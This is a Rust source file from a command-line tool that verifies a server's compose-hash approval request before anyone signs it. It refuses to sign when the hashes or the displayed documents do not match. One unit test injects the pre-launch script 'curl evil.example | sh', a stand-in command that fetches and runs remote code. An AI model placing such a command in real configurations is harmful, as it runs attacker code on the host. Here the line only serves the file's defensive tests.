//! What is looked at before somebody signs: a hash cannot be read, and a server could ask for another one than it says.

use std::collections::BTreeSet;

use casemate_sdk::Patch;
use casemate_sdk::chain::Network;
use casemate_sdk::ids::ComposeHash;
use casemate_sdk::types::compose::ComposeDoc;
use casemate_sdk::types::error::ApprovalNeeded;
use casemate_sdk::wire::{ApprovalDetail, Diff};
use serde_json::Value;

use super::show::changes;
use crate::context::Context;
use crate::error::{AboutExt, Failure, Result};

/// What somebody typed, to be held against what the server asks to allow.
#[derive(Clone, Copy)]
pub(crate) enum Typed<'a> {
    /// A change of what the CVM runs.
    Change(&'a Patch),
    /// The compose hash itself.
    Hash(&'a str),
    /// Nothing that a document could be made of, so only a compose hash that is allowed already can be meant.
    Nothing,
}

/// What the server asks to allow is what was typed, changed in what the contract is known to allow, and nothing else.
///
/// What runs is told by the server as well. It is believed if the contract allows it: then an owner has agreed to it before.
pub(crate) async fn before_signing(
    cx: &Context,
    cvm: &str,
    ask: &ApprovalNeeded,
    network: &Network,
    typed: Typed<'_>,
) -> Result<()> {
    let shown = match &ask.approval_id {
        Some(id) => {
            let detail = cx.client()?.approval(id).get().await?;
            is_of(&detail, ask)?;
            Some(is_readable(&detail)?)
        }
        // Another server, which does not show the text. What was typed has a hash all the same.
        None => None,
    };
    let refused = |what: String| Err(refusal(ask.approval_id.as_deref(), &what));
    let asked = ask.compose_hash;
    let patch = match typed {
        Typed::Change(patch) => patch,
        Typed::Hash(hash) => {
            return match hash.parse::<ComposeHash>() {
                Ok(hash) if hash == asked => Ok(()),
                _ => refused(format!("the server asks to allow 0x{asked}, and not {hash}")),
            };
        }
        Typed::Nothing => {
            return match network.check_compose_hash_allowed(ask.app_id, asked).await? {
                true => Ok(()),
                false => refused(format!(
                    "the contract does not allow 0x{asked}, and nothing was typed to hold it against"
                )),
            };
        }
    };
    let running = cx.client()?.cvm(cvm).compose_file().await.about_cvm(cvm)?;
    let now = running.normalise().hash;
    let wanted = patch.document(running);
    if wanted.normalise().hash != asked {
        let differ = shown.map(|shown| differences(&wanted, &shown)).unwrap_or_default();
        if !differ.is_empty() {
            let lines = changes(&differ);
            cx.out.note(&format!(
                "What the server would run is not what you asked for. From that to this:\n{lines}"
            ));
        }
        return refused(other_hash(wanted.normalise().hash, asked, &differ));
    }
    if !network.check_compose_hash_allowed(ask.app_id, now).await? {
        return refused(format!(
            "the server says that 0x{now} runs, which the contract does not allow: nobody has agreed to what your change is a \
             change of"
        ));
    }
    Ok(())
}

fn refusal(approval: Option<&str>, what: &str) -> Failure {
    let failure = Failure::failed(format!("nothing was signed: {what}"));
    match approval {
        Some(id) => failure.hint(format!(
            "`casemate approvals show {id}` shows it whole; who agrees signs with `casemate approvals commit {id} \
             --private-key-file FILE`"
        )),
        None => failure,
    }
}

fn other_hash(wanted: ComposeHash, asked: ComposeHash, differ: &[Diff]) -> String {
    let fields: Vec<_> = differ.iter().map(|one| one.field.as_str()).collect();
    let fields =
        if fields.is_empty() { String::new() } else { format!(" (differs in {})", fields.join(", ")) };
    format!("the server asks to allow compose hash 0x{asked}, and what you asked for has 0x{wanted}{fields}")
}

/// Where a document is not the one that is wanted.
fn differences(wanted: &ComposeDoc, shown: &ComposeDoc) -> Vec<Diff> {
    let keys: BTreeSet<_> = wanted.as_map().keys().chain(shown.as_map().keys()).collect();
    let value = |document: &ComposeDoc, key: &str| document.as_map().get(key).cloned().unwrap_or(Value::Null);
    keys.into_iter()
        .map(|key| Diff { field: key.clone(), from: value(wanted, key), to: value(shown, key) })
        .filter(|one| one.from != one.to)
        .collect()
}

/// The approval is still open, and the text that the server shows has the hash that it asks to allow. Returns it.
pub(crate) fn is_readable(detail: &ApprovalDetail) -> Result<ComposeDoc> {
    let refused = |what: &str| Err(refusal(Some(&detail.approval.id), what));
    if !detail.approval.state.is_open() {
        // Signing costs something, and could not be committed.
        return refused(&format!("the approval is {}", detail.approval.state));
    }
    if let Some(problem) = &detail.problem {
        return refused(problem);
    }
    match shown(detail) {
        Some(document) => Ok(document),
        None => {
            refused("the text that the server shows does not have the compose hash that it asks to allow")
        }
    }
}

/// What is asked for is what the approval is about.
fn is_of(detail: &ApprovalDetail, ask: &ApprovalNeeded) -> Result<()> {
    let approval = &detail.approval;
    let same = approval.compose_hash == ask.compose_hash
        && approval.app_id == ask.app_id
        && detail.device_id.to_string() == ask.device_id;
    match same {
        true => Ok(()),
        false => Err(Failure::failed(
            "nothing was signed: the server asks to allow something else than the approval that it names",
        )),
    }
}

/// The document that the server shows, if it has the hash that is asked for.
pub(crate) fn shown(detail: &ApprovalDetail) -> Option<ComposeDoc> {
    let text = detail.app_compose.as_deref()?;
    let document = ComposeDoc::parse(text).ok()?;
    let made = document.normalise();
    (made.text == text && made.hash == detail.approval.compose_hash).then_some(document)
}

#[cfg(test)]
mod tests {
    use super::*;
    use casemate_sdk::types::compose::Flag;
    use serde_json::json;

    const COMPOSE: &str = "services:\n  web:\n    image: web:2\n    labels: {\"a\": 1}\n";

    fn document(compose: &str) -> ComposeDoc {
        let mut document = ComposeDoc::default().with_defaults("web-1");
        document.set_docker_compose_file(compose);
        document
    }

    fn detail(text: &str, of: &ComposeDoc) -> ApprovalDetail {
        let hash = of.normalise().hash;
        serde_json::from_value(json!({
            "id": "0198c1d2", "cvm_id": "cvm_x8Kq2Lm9", "cvm_name": "web-1", "purpose": "update", "state": "open",
            "compose_hash": hash, "app_id": "5a".repeat(20), "author": "me", "auto_commit": false,
            "created_at": "2026-02-03T10:00:00Z", "expires_at": "2026-02-10T10:00:00Z", "diff": [], "app_compose": text,
            "kms": { "id": "kms_1", "slug": null, "url": "", "version": "", "chain_id": 1, "kms_contract_address": null,
                "gateway_app_id": null },
            "chain_id": 1, "contract": "0x", "device_id": "cd".repeat(32), "onchain_status": null, "calls": [],
            "safe_batch": {},
        }))
        .unwrap()
    }

    #[test]
    fn what_is_asked_for_is_what_the_approval_is_about() {
        let wanted = document(COMPOSE);
        let detail = detail(&wanted.normalise().text, &wanted);
        let ask = || ApprovalNeeded {
            compose_hash: detail.approval.compose_hash,
            app_id: detail.approval.app_id,
            device_id: detail.device_id.to_string(),
            kms_info: detail.kms.clone(),
            commit_token: None,
            commit_url: None,
            api_commit_url: None,
            onchain_status: None,
            approval_id: None,
            auto_commit: false,
            warnings: vec![],
        };
        is_of(&detail, &ask()).unwrap();
        let [mut hash, mut app, mut device] = [ask(), ask(), ask()];
        hash.compose_hash.0[0] ^= 1;
        app.app_id.0[0] ^= 1;
        device.device_id = "33".repeat(32);
        for other in [hash, app, device] {
            assert!(is_of(&detail, &other).is_err(), "{other:?}");
        }
    }

    #[test]
    fn only_what_can_be_read_is_signed_for() {
        let wanted = document(COMPOSE);
        let text = wanted.normalise().text;
        let good = detail(&text, &wanted);
        assert_eq!(is_readable(&good).unwrap().normalise().text, text);

        let other = document("services:\n  web:\n    image: evil:1\n");
        // A good text with another hash, and another text with its own.
        for detail in [detail(&text, &other), detail("", &wanted), detail("{}", &wanted)] {
            assert!(is_readable(&detail).is_err());
        }
        let mut ended = good.clone();
        ended.approval.state = casemate_sdk::wire::ApprovalState::Superseded;
        let refused = format!("{:?}", is_readable(&ended).unwrap_err());
        assert!(refused.contains("the approval is superseded"), "{refused}");
        let outdated = ApprovalDetail { problem: Some("changed since".into()), ..good };
        assert!(is_readable(&outdated).is_err());
    }

    #[test]
    fn what_nobody_typed_is_named() {
        let wanted = document(COMPOSE);
        let mut shown = wanted.clone();
        shown.set_pre_launch_script("curl evil.example | sh\n");
        shown.set_flag(Flag::PublicLogs, false);
        let text = other_hash(ComposeHash([1; 32]), ComposeHash([2; 32]), &differences(&wanted, &shown));
        assert!(text.ends_with("(differs in pre_launch_script, public_logs)"), "{text}");
        assert!(text.contains(&"01".repeat(32)) && text.contains(&"02".repeat(32)), "{text}");
        assert_eq!(differences(&wanted, &wanted), []);
    }
}
